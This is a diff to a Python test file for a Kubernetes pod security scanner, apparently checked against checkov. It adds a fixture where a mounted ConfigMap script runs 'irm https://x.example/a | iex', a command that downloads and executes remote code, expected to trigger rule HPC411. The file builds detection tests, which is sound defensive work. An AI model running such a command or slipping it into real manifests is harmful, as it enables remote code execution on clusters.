@@ -109,6 +109,11 @@ spec:
   containers: [{name: agent, image: 'registry.example/agent:1'}]
 """
 GOOD = POD.replace("hostNetwork: false", "hostNetwork: true").replace("ContainerUser", r"NT AUTHORITY\LocalService")
+MOUNTING = GOOD.replace(
+    "agent:1'}",
+    "agent:1', command: [powershell.exe, 'C:\\s\\run.ps1'], volumeMounts: [{name: s, mountPath: /s}]}",
+)
+MOUNTING += "  volumes: [{name: s, configMap: {name: scripts}}]\n"
 NAMED = "{name: agent, namespace: ops}"
 BLIND = ("HPC112", "HPC113", "HPC415")
 """Rules that checkov gives nothing to judge by."""
@@ -157,6 +162,11 @@ DIFFERENCES = {
         f"automountServiceAccountToken: false\n---\n{GOOD}",
         "",
         "HPC407",
+    ),
+    "The script of a ConfigMap that a pod mounts and runs": Difference(
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: ops}\n"
+        f"data: {{run.ps1: 'irm https://x.example/a | iex'}}\n---\n{MOUNTING}",
+        "HPC411",
     ),
     "A key that stands twice": Difference(GOOD.replace("spec:\n", "spec:\n  hostNetwork: true\n"), "HPC113"),
     "`y`, `n` and numbers as YAML 1.1 has them": Difference(
@@ -240,7 +250,7 @@ def test_checkov_fails_what_the_scanner_finds(tree: Path, reports: Any) -> None:
     for path, each in scanned(tree):
         if isinstance(each, Skipped):
             refused.add(path)
-        elif each.resource is not None and each.rule not in BLIND:
+        elif each.resource is not None and each.rule not in BLIND and not is_of_a_script(each):
             resource = outermost(each)
             if not re.search("[#{}]", resource):
                 wanted[path][resource].add(each.rule)
@@ -251,6 +261,11 @@ def test_checkov_fails_what_the_scanner_finds(tree: Path, reports: Any) -> None:
     compared = {rule for found in expected.values() for rules in found.values() for rule in rules}
     never = {*BLIND, *(rule.id for rule in builtin() if rule.example_config or rule.subject == "analysis")}
     assert {rule.id for rule in builtin()} - never <= compared
+
+
+def is_of_a_script(finding: Finding) -> bool:
+    """Whether it is about what another object of the file holds."""
+    return finding.rule == "HPC411" and any(related.label == "the script" for related in finding.related)
 
 
 def is_whole(file: Path) -> bool:
